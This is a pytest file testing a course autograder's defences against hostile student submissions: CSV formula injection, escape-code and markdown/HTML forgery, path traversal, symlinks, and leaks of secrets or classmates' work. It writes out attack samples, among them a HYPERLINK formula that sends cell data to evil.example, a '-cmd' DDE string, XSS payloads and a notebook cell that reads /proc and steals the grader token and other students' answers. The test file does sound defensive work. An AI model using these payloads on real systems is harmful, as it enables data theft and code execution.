"""Reports are data, not code; submissions are read (and hashed) before any kernel starts (issue 12, items 5 and 7).

The class is graded through ``grading.grade_all`` with the kernel run
replaced by a stand-in (``batch.grade_answers``), so these tests cost no
kernel; ``test_a_hostile_class_end_to_end`` runs the real thing once.
"""

import csv
import hashlib
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from bp_course import grading, notebooks
from bp_course.grading import batch, reports, safetext, submission
from bp_course.grading.runner import Outcome

ROOT = Path(__file__).resolve().parent.parent
LESSON00 = "00_how_to_use_this_course.ipynb"
FORMULA = '=HYPERLINK("https:evil.example?leak="&A1,"click")'


def _write_solution(path: Path, **answers) -> Path:
    """Lesson 00's solution at ``path``, with some answers rewritten (keys e00_1 ...)."""
    nb = notebooks.read(ROOT / "solutions" / LESSON00)
    for key, source in answers.items():
        exercise = key[1:].replace("_", ".")
        next(c for c in nb.cells if notebooks.role(c) == "answer" and notebooks.exercise(c) == exercise).source = source
    path.parent.mkdir(parents=True, exist_ok=True)
    notebooks.write(nb, path)
    return path


def _digests(paths) -> dict:
    return {p: hashlib.sha256(Path(p).read_bytes()).hexdigest() for p in paths}


@pytest.fixture
def no_kernel(monkeypatch):
    """Replace the kernel run by a stand-in that records what it was given; set ``stand_in.message`` per student."""
    calls = []

    def stand_in(lesson, answers, *, seed, cell_timeout=60, timeout=600, state=None):
        calls.append(dict(answers))
        message = stand_in.message(answers) if stand_in.message else "passed"
        return [Outcome(e, "passed" if e in answers else "missing", message) for e in lesson.exercises]

    stand_in.message = None
    stand_in.calls = calls
    monkeypatch.setattr(batch, "grade_answers", stand_in)
    return stand_in


def _grade(paths, **options):
    options = {"course": ROOT, "lesson": "00", "seed": 123456789, "jobs": 1, **options}
    results, _ = grading.grade_all(paths, **options)
    return results


# --- CSV injection ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\uff1d1+1"])
def test_csv_cells_never_start_a_formula(text):
    assert safetext.csv_cell(text).startswith("'")
    assert safetext.csv_cell("alice") == "alice" and safetext.csv_cell(3) == "3"


def test_a_student_named_like_a_formula_is_text_in_the_gradebook(tmp_path, no_kernel):
    path = _write_solution(tmp_path / "class" / f"{FORMULA}.ipynb")
    results = _grade([path])
    results[0].problem = "-cmd|' /C calc'!A0"
    results[0].flags = {"00.1": ["@evil"]}
    reports.write_gradebook(results, tmp_path / "gradebook.csv")
    with (tmp_path / "gradebook.csv").open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    assert rows[0]["student"] == "'" + FORMULA and rows[0]["problem"].startswith("'-cmd")
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


# --- names: unique, reversible, safe as file names --------------------------------------------------------------


def test_colliding_names_get_a_suffix_a_warning_and_their_own_report_files(tmp_path, no_kernel):
    folder = tmp_path / "class"
    files = ["alice.ipynb", f"alice/{LESSON00}", "a b.ipynb", "a_b.ipynb", "jörg.ipynb", "jürg.ipynb",
             "aaron/zoe.ipynb", f"zoe/{LESSON00}", "Bob.ipynb", "bob.ipynb"]
    for name in files:
        _write_solution(folder / name)
    results = _grade(grading.collect([folder]))
    by_file = {r.file: r for r in results}
    assert len(results) == len(files)
    names = [r.student for r in results]
    assert len({safetext.name_key(n) for n in names}) == len(names), names
    # no one takes another's row: every member of a collision is suffixed and warned
    for group in (["alice.ipynb", f"alice/{LESSON00}"], ["a b.ipynb", "a_b.ipynb"], ["aaron/zoe.ipynb",
                  f"zoe/{LESSON00}"], ["Bob.ipynb", "bob.ipynb"]):
        for file in group:
            result = by_file[file]
            assert result.student not in ("alice", "a b", "a_b", "zoe", "Bob", "bob")
            assert any(w.startswith("2 submissions map to the student name") and file in w
                       for w in result.warnings), result.warnings
    assert by_file["aaron/zoe.ipynb"].student == "zoe-1" and by_file[f"zoe/{LESSON00}"].student == "zoe-2"
    assert by_file["jörg.ipynb"].student == "jörg" and by_file["jürg.ipynb"].student == "jürg"
    assert not by_file["jörg.ipynb"].warnings
    out = reports.write_reports(results, tmp_path / "grades", seed=1)
    assert len(list((out / "feedback").iterdir())) == len(results)
    assert len(list((out / "results").iterdir())) == len(results)
    # the file is in every report, so a name leads back to its file
    for result, stem in zip(results, reports.report_stems(results)):
        feedback = (out / "feedback" / f"{stem}.md").read_text(encoding="utf-8")
        assert safetext.md_code_span(result.file) in feedback
        assert json.loads((out / "results" / f"{stem}.json").read_text(encoding="utf-8"))["extra_data"]["file"] \
            == result.file
    with (out / "gradebook.csv").open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    assert [row["file"] for row in rows] == [str(r.path) for r in results]


def test_two_lessons_of_one_student_are_told_apart_by_the_lesson(tmp_path, no_kernel):
    first = _write_solution(tmp_path / "carol" / LESSON00)
    nb = notebooks.read(ROOT / "solutions" / "02_gradient_descent.ipynb")
    second = tmp_path / "carol" / "02_gradient_descent.ipynb"
    notebooks.write(nb, second)
    results = _grade([first, second], lesson=None)
    assert [r.student for r in results] == ["carol-00", "carol-02"]


@pytest.mark.parametrize("name,stem", [("jörg", "jörg"), ("a b", "a_b"), ("../../etc/passwd", "_.._etc_passwd"),
                                       (".hidden", "hidden"), ("CON", "_CON"), ("", "student")])
def test_file_stems_are_plain_names(name, stem):
    assert safetext.file_stem(name) == stem


def test_long_names_keep_distinct_stems():
    a, b = "x" * 100 + "a", "x" * 100 + "b"
    assert safetext.file_stem(a) != safetext.file_stem(b) and len(safetext.file_stem(a)) <= 60


# --- the terminal table ------------------------------------------------------------------------------------------


def test_escape_codes_in_a_file_name_cannot_forge_table_rows(tmp_path, no_kernel):
    forged = "mallory\x1b[2K\r\nalice     1     1     1     3 of 3\x1b[A"  # a file name holds no /
    path = _write_solution(tmp_path / "class" / f"{forged}.ipynb")
    honest = _write_solution(tmp_path / "class" / "bob.ipynb")
    results = _grade([path, honest])
    results[0].problem = "broken\nalice 3/3"
    text = reports.table(results)
    assert "\x1b" not in text and "\r" not in text
    lines = text.split("\n")
    assert len(lines) == 2 + len(results) + 1  # header, rule, one line per student, legend
    assert not any(line.startswith("alice") for line in lines)
    assert "\\x1b[2K\\r\\nalice" in lines[2]


def test_student_names_print_on_one_line():
    assert submission.student_name(Path("c/bob\x1b[31m\u202e.ipynb")) == "bob\\x1b[31m\\u202e"
    assert submission.student_name(Path(f"c/eve\n/{LESSON00}")) == "eve\\n"
    assert safetext.printable("a\tb\rc\x00") == "a\\tb\\rc\\x00"


# --- feedback ---------------------------------------------------------------------------------------------------

FORGERY = ("wrong\n```\n\n**Total: 3 of 3 points.**\n\n## Exercise 00.2: passed, 1/1 points\n\n````\n"
           "<script>alert(1)</script><img src=x onerror=alert(2)>")


def _forger(tmp_path, no_kernel):
    path = _write_solution(tmp_path / "class" / "<img src=x onerror=alert(3)> `x` *y*.ipynb")
    no_kernel.message = lambda answers: FORGERY
    result = _grade([path])[0]
    result.outcomes[0].status = "failed"
    result.warnings.append("note with ```` and <i>html</i>")
    return result


def test_a_message_cannot_break_out_of_the_markdown_code_block(tmp_path, no_kernel):
    mistune = pytest.importorskip("mistune")
    result = _forger(tmp_path, no_kernel)
    text = reports.feedback_markdown(result)
    rendered = mistune.html(text)
    assert rendered.count("<strong>") == 1 and "<strong>Total: 2 of 3 points.</strong>" in rendered
    assert rendered.count("<h2>") == 4  # three exercises and the notes: no forged heading
    assert "<script>" not in rendered and "<img" not in rendered and "<i>" not in rendered
    assert "Total: 3 of 3 points." in rendered  # shown, as text inside the code block


def test_html_feedback_escapes_everything_the_student_chose(tmp_path, no_kernel):
    result = _forger(tmp_path, no_kernel)
    page = reports.feedback_html(result)
    assert "<script>" not in page and "<img" not in page and "<i>" not in page
    assert page.count("<strong>") == 1 and "&lt;img src=x onerror=alert(3)&gt; `x` *y*" in page


def test_messages_never_carry_the_graders_environment_command_line_or_a_classmates_work(tmp_path, no_kernel,
                                                                                      monkeypatch):
    secret = "tok-5f1e9a0c77d2-SECRET"
    monkeypatch.setenv("BP_GRADER_TOKEN", secret)
    folder = tmp_path / "class-of-2026"
    bob_line = "return 0.5 * (t - y) ** 2  # bob's own way of writing it"
    bob = _write_solution(folder / "bob.ipynb", e00_1=f"def squared_error(y, t):\n    {bob_line}")
    eve_line = "raise ValueError(leaked)  # eve's own line"
    eve = _write_solution(folder / "eve.ipynb", e00_2=eve_line)
    monkeypatch.setattr(sys, "argv", ["/opt/course/bp_course/__main__.py", "grade", str(folder), "--seed", "7"])
    monkeypatch.setattr(sys, "orig_argv", ["python", "-m", "bp_course", "grade", str(folder), "--seed", "7"],
                        raising=False)
    leak = (f"ValueError: {secret} | {' '.join(sys.orig_argv)} | {bob.read_text(encoding='utf-8')[:4000]} | "
            f"{bob} | {eve_line}")
    no_kernel.message = lambda answers: leak if "raise ValueError" in answers.get("00.2", "") else "passed"
    results = {r.student: r for r in _grade([bob, eve], seed=1234567890)}
    message = results["eve"].outcomes[0].message
    assert message == safetext.WITHHELD  # it held bob's work: withheld whole
    out = reports.write_reports(list(results.values()), tmp_path / "grades", seed=1234567890)
    for path in (out / "feedback").iterdir():
        assert secret not in path.read_text(encoding="utf-8")
    # the grader's own strings alone are cut out where they stand; the student's own code stays
    leak = f"ValueError: {secret} | {' '.join(sys.orig_argv)} | {eve_line}"
    results = {r.student: r for r in _grade([bob, eve], seed=1234567890)}
    message = results["eve"].outcomes[0].message
    assert message.startswith("ValueError: [redacted]")
    for forbidden in (secret, str(folder), "class-of-2026", "bp_course grade"):
        assert forbidden not in message, forbidden
    assert eve_line in message  # a student's own code is theirs to see


def test_the_redactor_is_no_oracle_for_guesses():
    """Guesses printed in a message: which one was right cannot be read from what comes back."""
    redact = safetext.Redactor(environ={}, seed=1234567890, answers={"bob": ["w = np.linalg.solve(H, g)  # bob"],
                                                                     "eve": []})
    guesses = [f"seed {n}?" for n in range(1234567885, 1234567895)]
    assert redact(" ".join(guesses), "eve") == safetext.WITHHELD
    assert redact(" ".join(guesses[:3]), "eve") == " ".join(guesses[:3])
    assert redact("is it w = np.linalg.solve(H, g)  # bob or w = H @ g?", "eve") == safetext.WITHHELD
    assert redact("w = np.linalg.solve(H, g)  # bob", "bob") == "w = np.linalg.solve(H, g)  # bob"


def test_the_reference_answers_are_withheld_from_a_message_unless_the_student_wrote_them():
    """The kernel holds earlier exercises' references after their checks: a message carrying one is withheld."""
    redact = safetext.Redactor(environ={}, answers={"eve": [], "ann": ["    return 0.5 * (t - y) ** 2"]},
                               public=["def squared_error(y, t):"],
                               reference=["def squared_error(y, t):\n    return 0.5 * (t - y) ** 2"])
    dumped = repr("def squared_error(y, t):\n    return 0.5 * (t - y) ** 2\n")
    assert redact(f"RuntimeError: {dumped}", "eve") == safetext.WITHHELD
    assert redact("RuntimeError: {'<cell>': (1, None, ['    return 0.5 * (t - y) ** 2\\n'])}", "eve") == \
        safetext.WITHHELD
    assert redact(f"RuntimeError: {dumped}", "ann") == f"RuntimeError: {dumped}"  # her own line
    assert redact("NameError: name 'squared_error' is not defined", "eve") == \
        "NameError: name 'squared_error' is not defined"


def test_redactor_keeps_ordinary_messages():
    redact = safetext.Redactor(environ={"HOME": "/home/instructor", "LANG": "C"}, argv=[["prog", "grade"]],
                               seed=1234567890)
    message = "Exercise 00.2: E = 0.36 is (t - y)^2 without the factor 1/2; phi*(1-phi)/2 and dE/dw/x"
    assert redact(message, "alice") == message
    assert redact("No such file: '/home/instructor/x.csv'", "alice") == "No such file: '[redacted]/x.csv'"
    assert redact("No such file: '/srv/class/x.csv'", "alice") == "No such file: '[path]'"


# --- the seed ---------------------------------------------------------------------------------------------------


def test_the_seed_is_in_the_gradebook_only(tmp_path, no_kernel):
    seed = 987654321
    results = _grade([_write_solution(tmp_path / "alice.ipynb")], seed=seed)
    out = reports.write_reports(results, tmp_path / "grades", seed)
    for folder in ("feedback", "results"):
        for path in (out / folder).iterdir():
            assert str(seed) not in path.read_text(encoding="utf-8"), path
    assert "seed" not in json.loads((out / "results" / "alice.json").read_text(encoding="utf-8"))["extra_data"]
    assert str(seed) not in reports.feedback_html(results[0], seed)
    rows = list(csv.DictReader(io.StringIO((out / "gradebook.csv").read_text(encoding="utf-8"))))
    assert rows[0]["seed"] == str(seed)


def test_a_regrade_draws_a_fresh_seed_unless_one_is_asked_for():
    assert len({batch.choose_seed() for _ in range(5)}) > 1
    assert batch.choose_seed(7) == 7


# --- reading: symlinks refused, everything read and hashed before any kernel -------------------------------------


@pytest.mark.skipif(not hasattr(os, "symlink") or sys.platform == "win32", reason="needs symbolic links")
def test_symbolic_links_are_refused_never_followed(tmp_path, no_kernel):
    folder, elsewhere = tmp_path / "class", tmp_path / "elsewhere"
    real = _write_solution(folder / "real.ipynb")
    secret_notebook = _write_solution(elsewhere / "answers" / "secret.ipynb")
    (folder / "link.ipynb").symlink_to(real)
    (folder / "outside.ipynb").symlink_to(secret_notebook)
    (folder / "linked_folder").symlink_to(elsewhere / "answers", target_is_directory=True)
    (folder / "dangling.ipynb").symlink_to(tmp_path / "gone.ipynb")
    paths = grading.collect([folder])
    assert sorted(p.name for p in paths) == ["dangling.ipynb", "link.ipynb", "linked_folder", "outside.ipynb",
                                             "real.ipynb"]
    results = {r.path.name: r for r in _grade(paths)}
    assert results["real.ipynb"].problem is None
    for name in ("link.ipynb", "outside.ipynb", "linked_folder", "dangling.ipynb"):
        assert results[name].problem.startswith("refused: the submission is a symbolic link"), name
        assert results[name].sha256 == "" and not results[name].outcomes
    assert len(no_kernel.calls) == 1  # only the real file reached a kernel
    with pytest.raises(submission.SubmissionError, match="symbolic link"):
        submission.read_submission(folder / "link.ipynb")


def test_everything_is_read_and_hashed_before_any_kernel_starts(tmp_path, no_kernel):
    """A kernel that rewrites classmates' files while it runs changes nothing that is graded or recorded."""
    paths = [_write_solution(tmp_path / f"{name}.ipynb") for name in ("ann", "ben", "cat")]
    before = _digests(paths)
    stub = notebooks.read(ROOT / "lessons" / LESSON00)

    def tamper(answers):
        for path in paths:
            notebooks.write(stub, path)
        return "passed"

    no_kernel.message = tamper
    results = _grade(paths)
    assert [r.sha256 for r in results] == [before[p] for p in paths]
    reference = no_kernel.calls[0]
    assert all(call == reference for call in no_kernel.calls) and "0.5 * (t - y) ** 2" in reference["00.1"]
    assert all(r.score == 3 for r in results)


def test_reading_never_modifies_the_file(tmp_path):
    path = _write_solution(tmp_path / "alice.ipynb")
    os.chmod(path, 0o444)
    before = _digests([path])
    sub = submission.read_submission(path)
    submission.extract_answers(sub, submission.load_lesson(ROOT, "00"))
    assert _digests([path]) == before and sub.sha256 == before[path]


def test_a_fifo_is_refused_not_waited_on(tmp_path):
    if not hasattr(os, "mkfifo"):
        pytest.skip("no FIFOs here")
    os.mkfifo(tmp_path / "pipe.ipynb")
    with pytest.raises(submission.SubmissionError, match="not a regular file"):
        submission.read_submission(tmp_path / "pipe.ipynb")


# --- writing: only inside --out, never through a link ------------------------------------------------------------


def test_report_names_cannot_leave_the_output_folder(tmp_path, no_kernel):
    results = _grade([_write_solution(tmp_path / "alice.ipynb")])
    results[0].student = "../../escaped"
    out = reports.write_reports(results, tmp_path / "grades", seed=1)
    assert not (tmp_path / "escaped.md").exists() and not (tmp_path / "grades" / "escaped.md").exists()
    assert [p.name for p in (out / "feedback").iterdir()] == ["_.._escaped.md"]


@pytest.mark.skipif(not hasattr(os, "symlink") or sys.platform == "win32", reason="needs symbolic links")
def test_links_in_the_output_folder_are_never_written_through(tmp_path, no_kernel):
    results = _grade([_write_solution(tmp_path / "alice.ipynb")])
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me", encoding="utf-8")
    out = tmp_path / "grades"
    (out / "feedback").mkdir(parents=True)
    (out / "feedback" / "alice.md").symlink_to(victim)
    (out / "gradebook.csv").symlink_to(victim)
    reports.write_reports(results, out, seed=1)
    assert victim.read_text(encoding="utf-8") == "keep me"
    assert not (out / "feedback" / "alice.md").is_symlink() and "Feedback for alice" in \
        (out / "feedback" / "alice.md").read_text(encoding="utf-8")
    other = tmp_path / "other"
    (other / "results").mkdir(parents=True)
    (other / "feedback").symlink_to(tmp_path / "elsewhere", target_is_directory=True)
    with pytest.raises(reports.ReportError, match="symbolic link"):
        reports.write_reports(results, other, seed=1)
    assert not (tmp_path / "elsewhere").exists()


# --- end to end -------------------------------------------------------------------------------------------------

ATTACK = '''import glob, os
def _parents():
    pid, lines = os.getpid(), []
    for _ in range(6):
        try:
            pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
            lines.append(open(f"/proc/{pid}/cmdline").read().replace("\\0", " "))
        except Exception:
            break
    return lines
_cmd = " | ".join(_parents())
_stolen = ""
for _part in _cmd.split():
    for _file in glob.glob(os.path.join(_part, "*.ipynb")) if os.path.isdir(_part) else []:
        if "mallory" not in _file:
            _stolen += " ".join(l for l in open(_file).read().split("\\n") if "classmate-marker" in l)
raise ValueError("LEAK " + os.environ.get("BP_GRADER_TOKEN", "no-token") + " " + _stolen + " " + _cmd)'''


@pytest.mark.skipif(sys.platform == "win32", reason="symbolic links and /proc")
def test_a_hostile_class_end_to_end(tmp_path):
    """python -m bp_course grade on a class with a formula name, a symlink and a thief: reports stay clean."""
    secret = "tok-0b7c2d9e1f-GRADER-SECRET"
    folder = tmp_path / "class"
    formula = _write_solution(folder / f"{FORMULA}.ipynb", e00_3="def error_derivative(y, t):\n"
                                                                  "    return y - t  # classmate-marker answer")
    mallory = _write_solution(folder / "mallory.ipynb", e00_1=ATTACK)
    (folder / "zlink.ipynb").symlink_to(formula)
    before = _digests([formula, mallory])
    env = {**os.environ, "BP_GRADER_TOKEN": secret}
    run = subprocess.run([sys.executable, "-m", "bp_course", "grade", str(folder), "--lesson", "00", "--out",
                          str(tmp_path / "out"), "--jobs", "2", "--cell-timeout", "30"],
                         capture_output=True, text=True, timeout=600, cwd=tmp_path, env=env)
    assert run.returncode == 0, run.stderr
    assert _digests([formula, mallory]) == before
    out = tmp_path / "out"
    with (out / "gradebook.csv").open(encoding="utf-8", newline="") as file:
        rows = {row["file"]: row for row in csv.DictReader(file)}
    seed = rows[str(mallory)]["seed"]
    assert len(seed) > 0 and seed in run.stdout
    assert rows[str(formula)]["student"] == "'" + FORMULA and rows[str(formula)]["total"] == "3"
    assert rows[str(formula)]["sha256"] == before[formula]
    assert rows[str(folder / "zlink.ipynb")]["problem"].startswith("refused: the submission is a symbolic link")
    assert rows[str(mallory)]["00.1"] == "0" and rows[str(mallory)]["total"] == "2"
    feedback = (out / "feedback" / "mallory.md").read_text(encoding="utf-8")
    assert "LEAK" in feedback
    for forbidden in (secret, "classmate-marker", str(folder), str(tmp_path), "--out", seed):
        assert forbidden not in feedback, forbidden
    for path in (out / "results").iterdir():
        data = path.read_text(encoding="utf-8")
        assert secret not in data and f'"seed": {seed}' not in data
    assert "\x1b" not in run.stdout
